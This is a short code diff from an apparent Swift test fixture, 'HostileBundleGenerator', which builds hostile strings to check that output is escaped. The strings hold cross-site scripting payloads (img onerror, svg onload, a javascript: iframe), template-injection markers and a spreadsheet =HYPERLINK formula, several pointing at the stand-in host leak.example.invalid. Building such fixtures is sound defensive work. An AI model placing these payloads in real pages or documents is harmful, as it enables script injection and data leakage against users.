@@ -14,7 +14,7 @@ enum HostileBundleGenerator {
             + "\"'><img src=\"http://leak.example.invalid/\(path).png\" onerror=\"document.documentElement.setAttribute('data-pwned','img')\">"
             + "<svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg>"
             + "<link rel=\"stylesheet\" href=\"http://leak.example.invalid/x.css\"><iframe src=\"javascript:parent.document.documentElement.setAttribute('data-pwned','iframe')\"></iframe>"
-            + "</textarea></title></style><!-- ]]> {{case.id}} {{{raw}}} {case.caption} =HYPERLINK(\"http://leak.example.invalid\")"
+            + "</textarea></title></style>]]> {{case.id}} {{{raw}}} {case.caption} =HYPERLINK(\"http://leak.example.invalid\")"
     }
 
     /// The ids collection records get, so references can name them.
